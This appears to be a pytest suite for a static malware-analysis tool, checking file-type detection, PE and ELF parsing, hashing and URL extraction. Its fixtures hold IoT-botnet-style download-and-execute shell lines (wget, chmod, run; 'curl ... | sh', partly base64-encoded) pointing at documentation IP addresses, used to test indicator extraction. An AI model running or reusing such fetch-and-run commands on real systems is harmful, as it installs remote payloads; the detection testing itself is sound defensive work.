# SPDX-License-Identifier: Apache-2.0
"""Each static analyser says what is true of benign bodies, and says so when it could not look."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import struct
import zipfile
from pathlib import Path
from types import SimpleNamespace

import lief
import msgspec
import pytest
import setuptools

from mead.analysis.analyser import Artifact, Report
from mead.analysis.magics_tables import IN_ZIP, MAGICS, OPENINGS
from mead.analysis.registry import ANALYSERS
from mead.analysis.settings import AnalysisSettings
from mead.analysis.static import elf, filetype

LAUNCHER = Path(setuptools.__file__).parent / "cli-32.exe"


def _look(name: str, data: bytes, settings: AnalysisSettings) -> Report:
    report = ANALYSERS.load(name).analyse(Artifact.of(data), settings)
    assert report is not None
    return report


def _values(report: Report) -> dict[str, str | None]:
    return {finding.claim: finding.value for finding in report.findings}


def test_hashes(settings: AnalysisSettings, noise: bytes) -> None:
    values = _values(_look("hashes", noise, settings))
    assert values["hash.md5"] == hashlib.md5(noise).hexdigest()
    assert values["hash.sha256"] == hashlib.sha256(noise).hexdigest()
    assert re.fullmatch(r"\d+:\S+:\S+", values["hash.ssdeep"] or "")
    assert (values["hash.tlsh"] or "").startswith("T1")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\x7fELF\x02\x01\x01", "elf"), (b"PK\x03\x04....", "zip"), (b"#!/bin/sh\n", "script"),
        (b"plain text\n", "text"),
        (b"<html><body>", "html"), (bytes(range(256)), "data"), (b"{\\rtf1 }", "rtf"), (b"", "data"),
        (b"\0" * 257 + b"ustar", "tar"), (b"MZ" + b"\0" * 100, "dos"),
    ],
)  # fmt: skip
def test_type_by_our_own_table(data: bytes, kind: str, settings: AnalysisSettings) -> None:
    assert _values(_look("filetype", data, settings))["type"] == kind


def test_no_magic_hides_another() -> None:
    for number, (offset, mark, name, _) in enumerate(MAGICS):
        body = bytes(offset) + mark + bytes(64)
        first = next(n for n, (at, other, *_) in enumerate(MAGICS) if body[at : at + len(other)] == other)
        assert first == number, f"{name} is hidden by {MAGICS[first][2]}"


def test_many_formats_are_known_without_any_library() -> None:
    assert len({name for _, _, name, _ in MAGICS} | {name for _, name, _ in (*IN_ZIP, *OPENINGS)}) >= 90


@pytest.mark.parametrize(
    ("members", "kind"),
    [
        (["[Content_Types].xml", "word/document.xml"], "docx"), (["xl/workbook.xml"], "xlsx"),
        (["ppt/presentation.xml"], "pptx"), (["META-INF/MANIFEST.MF"], "jar"), (["invoice.exe"], "zip"),
        (["META-INF/MANIFEST.MF", "AndroidManifest.xml", "classes.dex"], "apk"),
    ],
)  # fmt: skip
def test_a_zip_is_what_is_in_it(members: list[str], kind: str) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in members:
            archive.writestr(name, b"x")
    assert filetype.by_magic(out.getvalue())[0] == kind


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (b"\xef\xbb\xbf  <!DOCTYPE html>", "html"), (b"@echo off\r\n", "batch"), (b"Dim x\r\n", "vbscript"),
        (b"powershell -enc AAAA", "powershell"), (b"import os\n", "python"), (b"var a = 1;", "javascript"),
        (b"<job id='x'>", "wsf"), (b"dear all,\n", "text"),
    ],
)  # fmt: skip
def test_text_is_known_by_how_it_begins(text: bytes, kind: str) -> None:
    assert filetype.by_magic(text)[0] == kind


def test_type_names_every_source(program: bytes, settings: AnalysisSettings) -> None:
    values = _values(_look("filetype", program, settings))
    assert values["type"] == "pe"
    assert "PE32" in (values["type.libmagic"] or "")
    assert values["type.mime"]


def test_pe_facts(settings: AnalysisSettings) -> None:
    data = LAUNCHER.read_bytes()
    report = _look("pe", data + b"appended" * 10, settings)
    values = _values(report)
    assert values["pe.architecture"] == "i386"
    assert values["pe.subsystem"] == "windows_cui"
    assert re.fullmatch(r"[0-9a-f]{32}", values["hash.imphash"] or "")
    assert values["overlay"] == "80 bytes"
    imports = next(finding for finding in report.findings if finding.claim == "pe.imports")
    assert any(name.startswith("KERNEL32.dll:") for name in imports.evidence)


def test_pe_damaged_headers_fail_and_other_files_are_none_of_its_business(settings: AnalysisSettings) -> None:
    broken = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\xff" * 10
    assert _look("pe", broken, settings).verdict == "failed"
    assert ANALYSERS.load("pe").analyse(Artifact.of(b"text"), settings) is None
    assert ANALYSERS.load("elf").analyse(Artifact.of(b"text"), settings) is None


def test_elf_facts(settings: AnalysisSettings) -> None:
    report = _look("elf", Path("/bin/true").resolve().read_bytes(), settings)
    values = _values(report)
    assert values["elf.linked"] == "dynamic"
    assert "64-bit little-endian" in (values["elf.architecture"] or "")
    assert re.fullmatch(r"t1[0-9a-f]{70}", values["hash.telfhash"] or "")


@pytest.mark.parametrize(
    ("machine", "bits", "order", "expected"),
    [
        (40, 32, "<", "arm 32-bit little-endian"), (8, 32, ">", "mips 32-bit big-endian"),
        (8, 32, "<", "mips 32-bit little-endian"), (20, 32, ">", "ppc 32-bit big-endian"),
        (42, 32, "<", "sh 32-bit little-endian"), (4, 32, ">", "m68k 32-bit big-endian"),
        (2, 32, ">", "sparc 32-bit big-endian"), (93, 32, "<", "arc_compact 32-bit little-endian"),
        (3, 32, "<", "i386 32-bit little-endian"), (62, 64, "<", "x86_64 64-bit little-endian"),
        (183, 64, "<", "aarch64 64-bit little-endian"), (243, 64, "<", "riscv 64-bit little-endian"),
        (0x9026, 64, "<", "alpha_alt 64-bit little-endian"), (0xBEEF, 32, ">", "0xbeef 32-bit big-endian"),
    ],
)  # fmt: skip
def test_elf_of_every_architecture(
    machine: int, bits: int, order: str, expected: str, settings: AnalysisSettings
) -> None:
    values = _values(_look("elf", _elf(machine, bits, order), settings))
    assert values["elf.architecture"] == expected
    assert (values["elf.linked"], values["elf.stripped"]) == ("static", "true")


def _elf(machine: int, bits: int, order: str) -> bytes:
    """The headers of a static program without sections, as devices get them."""
    mark = b"\x7fELF" + bytes((bits // 32, 1 if order == "<" else 2, 1)) + bytes(9)
    if bits == 32:
        head = struct.pack(order + "HHIIIIIHHHHHH", 2, machine, 1, 0x10054, 52, 0, 0, 52, 32, 1, 40, 0, 0)
        load = struct.pack(order + "8I", 1, 0, 0x10000, 0x10000, 284, 284, 5, 4096)
    else:
        head = struct.pack(order + "HHIQQQIHHHHHH", 2, machine, 1, 0x10078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
        load = struct.pack(order + "IIQQQQQQ", 1, 5, 0, 0x10000, 0x10000, 320, 320, 4096)
    return mark + head + load + bytes(200)


def test_telfhash_counts_a_name_for_each_of_its_versions() -> None:
    function, binding = lief.ELF.Symbol.TYPE.FUNC, lief.ELF.Symbol.BINDING.GLOBAL
    visible = lief.ELF.Symbol.VISIBILITY.DEFAULT
    names = ("Beta", "alpha", "alpha", "strcpy", "_start", "main", "lseek64")
    table = [SimpleNamespace(name=name, type=function, binding=binding, visibility=visible) for name in names]
    program = SimpleNamespace(dynamic_symbols=table, symtab_symbols=[])
    assert elf.telfhash_text(program) == "alpha,alpha,beta"


def test_headers_with_numbers_that_nobody_knows_are_facts(settings: AnalysisSettings) -> None:
    data = bytearray(LAUNCHER.read_bytes())
    at = struct.unpack_from("<I", data, 60)[0]
    struct.pack_into("<H", data, at + 24 + 68, 0x7777)
    assert _values(_look("pe", bytes(data), settings))["pe.subsystem"] == "0x7777"


def test_elf_overlay_and_damage(settings: AnalysisSettings) -> None:
    data = Path("/bin/true").resolve().read_bytes()
    assert "overlay" in _values(_look("elf", data + b"x" * 3000, settings))
    assert _look("elf", b"\x7fELF" + b"\xff" * 40, settings).verdict in {"failed", "done"}


def test_strings_and_indicators(settings: AnalysisSettings) -> None:
    text = b"\0\0/bin/busybox wget http://198.51.100.7:8080/x.sh\0" + "http://wide.example.com/a".encode(
        "utf-16-le"
    )
    report = _look("strings", text, settings)
    found = {(i.indicator_kind, i.indicator) for i in report.indicators}
    assert {
        ("url", "http://198.51.100.7:8080/x.sh"),
        ("ip", "198.51.100.7"),
        ("url", "http://wide.example.com/a"),
    } <= found
    assert any(finding.claim == "strings.telling" for finding in report.findings)


def test_encoded_places_are_found_where_they_hide(settings: AnalysisSettings) -> None:
    wide = "GET http://198.51.100.9/wide".encode("utf-16-le")
    text = b"\0\0" + wide + b"\xff" + base64.b64encode(b"curl http://198.51.100.8/coded | sh") + b"\xff"
    report = _look("strings", text, settings)
    places = {i.indicator: i.offset for i in report.indicators if i.indicator_kind == "url"}
    assert places == {"http://198.51.100.9/wide": 2 + 2 * 4, "http://198.51.100.8/coded": len(wide) + 3}


def test_schemas_are_a_fact_and_no_indicator(settings: AnalysisSettings) -> None:
    text = b'<a xmlns="http://www.w3.org/2000/svg" href="http://schemas.openxmlformats.org/x"/>'
    report = _look("strings", text, settings)
    assert not report.indicators
    (cited,) = [finding for finding in report.findings if finding.claim == "strings.cited"]
    assert cited.value == "2"


def test_strings_say_when_they_stop(settings: AnalysisSettings) -> None:
    few = msgspec.structs.replace(settings, max_indicators=5, max_strings_bytes=4000)
    data = b"".join(b"http://host%d.example.com/ \n" % n for n in range(500))
    report = _look("strings", data, few)
    assert len(report.indicators) == 5
    assert {hit.limit for hit in report.limits} == {"strings.bytes", "strings.indicators"}


LOADER = b"""#!/bin/sh
A=192.0.2.1
for x in arm mips; do
  wget http://$A/bins/$x -O $x; chmod +x $x; ./$x telnet
done
echo -ne "\\x7fELF-benign-marker" > /tmp/d
[ "$(uname -m)" = armv7l ] && curl http://192.0.2.2/only-arm
"""


def test_a_script_gives_the_urls_that_it_builds(settings: AnalysisSettings) -> None:
    report = _look("scripts", LOADER, settings)
    urls = {indicator.indicator for indicator in report.indicators}
    assert urls == {"http://192.0.2.1/bins/arm", "http://192.0.2.1/bins/mips", "http://192.0.2.2/only-arm"}
    assert {child.name: child.data for child in report.children}["/tmp/d"] == b"\x7fELF-benign-marker"
    assert any(finding.claim == "script.starts" for finding in report.findings)


@pytest.mark.parametrize(
    "data", [b"<html>wget x; chmod y</html>", b"just a letter\n", b"\x7fELF wget chmod\0", b""]
)
def test_what_is_no_script_is_not_run(data: bytes, settings: AnalysisSettings) -> None:
    assert ANALYSERS.load("scripts").analyse(Artifact.of(data), settings) is None


def test_what_a_script_leaves_for_its_end_is_seen(settings: AnalysisSettings) -> None:
    report = _look("scripts", b"#!/bin/sh\ntrap 'wget http://192.0.2.5/last' EXIT\necho begun\n", settings)
    assert [indicator.indicator for indicator in report.indicators] == ["http://192.0.2.5/last"]


def test_a_script_without_a_first_line_is_known_by_its_commands(settings: AnalysisSettings) -> None:
    report = _look("scripts", b"cd /tmp || cd /var; wget http://192.0.2.3/a; chmod 777 a; ./a", settings)
    assert [indicator.indicator for indicator in report.indicators] == ["http://192.0.2.3/a"]


def test_an_endless_script_ends(settings: AnalysisSettings) -> None:
    report = _look("scripts", b"#!/bin/sh\nwhile true; do wget http://192.0.2.4/x; done\n", settings)
    assert report.limits
